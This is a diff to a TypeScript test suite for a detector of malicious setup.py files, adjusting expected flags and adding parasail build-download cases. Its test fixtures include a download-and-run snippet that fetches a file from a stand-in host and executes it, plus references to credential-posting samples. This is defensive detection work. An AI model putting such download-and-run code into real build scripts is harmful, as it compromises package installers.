@@ -45,9 +45,9 @@ describe('malicious shapes in a setup.py: the check', () => {
 
   it.each<[string, string, string, string[], string[]]>([
     // exfiltrate-sensitive-data.py:49-51: the credentials file opened into a variable, the variable
-    // posted. The whole-text reader also pairs the added network call with pykerberos' own
-    // krb5-config subprocess: download-and-run.
-    ['edit of pykerberos + guarddog\'s ~/.aws/credentials post', edit('pykerberos.setup.py', `import requests\n${guarddog('exfiltrate-sensitive-data.py', 49, 51)}`), 'sdist-hostile', ['exfiltration'], ['download-and-run', 'exfiltration']],
+    // posted. (The whole-text reader's pairing of the added network call with pykerberos' own
+    // krb5-config subprocess as download-and-run is not taken: see the parasail tests below.)
+    ['edit of pykerberos + guarddog\'s ~/.aws/credentials post', edit('pykerberos.setup.py', `import requests\n${guarddog('exfiltrate-sensitive-data.py', 49, 51)}`), 'sdist-hostile', ['exfiltration'], ['exfiltration']],
     // exfiltrate-sensitive-data.py:101-123 (tenserflow): user and host names posted through a
     // wrapper around urlopen — no credential path or token, so only the data-flow reader finds it.
     ['edit of the numpy example + guarddog\'s tenserflow host-data send', edit('numpy-cython-example.setup.py', `import getpass, platform, socket, json\n${guarddog('exfiltrate-sensitive-data.py', 101, 123)}\ndetect()`), 'sdist-hostile', ['exfiltration'], []],
@@ -85,8 +85,10 @@ describe('malicious shapes in a setup.py: the check', () => {
     const text = real('guarddog-import-aliasing.setup.py');
     expect(readImportCode(text).flags).toEqual([]);
     const outcome = outcomeOf(check, sdistOnly(text));
-    expect(outcome).toMatchObject({ score: 10, messageId: 'sdist-suspicious', data: { flowFlags: [], patternFlags: ['download-and-run', 'aliased-process'] } });
-    expect(outcome.data?.flags).toEqual(['download-and-run', 'aliased-process']);
+    // Its downloader is a string written to a temporary file, run through the aliased os.system:
+    // no download is followed to a process, so the verdict is held by the aliases alone.
+    expect(outcome).toMatchObject({ score: 10, messageId: 'sdist-suspicious', data: { flowFlags: [], patternFlags: ['aliased-process'] } });
+    expect(outcome.data?.flags).toEqual(['aliased-process']);
   });
 
   it('the whole-text exfiltration shape alone holds the verdict without the cap (it is a co-occurrence, not a flow)', () => {
@@ -98,9 +100,44 @@ describe('malicious shapes in a setup.py: the check', () => {
   });
 });
 
+describe('a setup.py that downloads a build input (python-parasail 1.3.3, fixtures/PROVENANCE.md)', () => {
+  // It urlretrieves GNU autotools' source tarballs, unpacks them in Python and runs ./configure and
+  // make in the unpacked directories through subprocess.
+  const PARASAIL = real('parasail.setup.py');
+
+  it('is not held: the download is unpacked and built, never run', () => {
+    expect(readImportCode(PARASAIL).flags).toEqual([]);
+    // The whole-text reader still sees a network call beside a process; the check leaves that shape to the data flow.
+    expect(readBuildScript(PARASAIL).flags).toEqual(['download-and-run']);
+    const outcome = outcomeOf(check, sdistOnly(PARASAIL));
+    expect(outcome.score).toBe(SDIST_ONLY_SCORE);
+    expect(outcome.messageId).toBe('sdist-commands');
+    expect(outcome.data?.commands).toEqual(['install', 'bdist_wheel']);
+    expect(outcome.holdVerdict).toBeUndefined();
+  });
+
+  it('edited to start the downloaded tarball itself: held, found by following the saved path', () => {
+    expect(PARASAIL).toContain('            untar(tarball)\n');
+    const text = PARASAIL.replace('            untar(tarball)\n', '            subprocess.call([os.path.abspath(tarball)])\n');
+    const outcome = outcomeOf(check, sdistOnly(text));
+    expect(outcome).toMatchObject({ score: 10, messageId: 'sdist-suspicious', data: { flowFlags: ['download-and-run'], patternFlags: [], flags: ['download-and-run'] } });
+    expect(outcome.holdVerdict).toBeDefined();
+  });
+
+  it('edit of gsutil: a binary downloaded and run (the whole-text reading\'s own test case) is still held', () => {
+    const text = `${real('gsutil.setup.py')}\nimport urllib.request, subprocess\nurllib.request.urlretrieve("http://x.example/a", "/tmp/a")\nsubprocess.call(["/tmp/a"])\n`;
+    expect(outcomeOf(check, sdistOnly(text))).toMatchObject({ messageId: 'sdist-suspicious', data: { flowFlags: ['download-and-run'], flags: ['download-and-run'] } });
+  });
+});
+
 describe('aliased process functions (readBuildScript)', () => {
   it.each([
     ['from os import system as _s', true],
+    ['from subprocess import (\n    Popen as P,\n    call,\n)', true],
+    ['from subprocess import (  # tools\n    PIPE,  # pipes\n    check_call as cc,\n)', true],
+    ['from os import path, \\\n    system as _s', true],
+    ['from subprocess import (\n    Popen,\n    PIPE,\n)\nrun = 1 as_ = 2', false],
+    ['from os import path\nsystem as _s = 1', false],
     ['from os import path, system as s', true],
     ['from subprocess import (PIPE, Popen as P)', true],
     ['from sys import executable as _py', true],
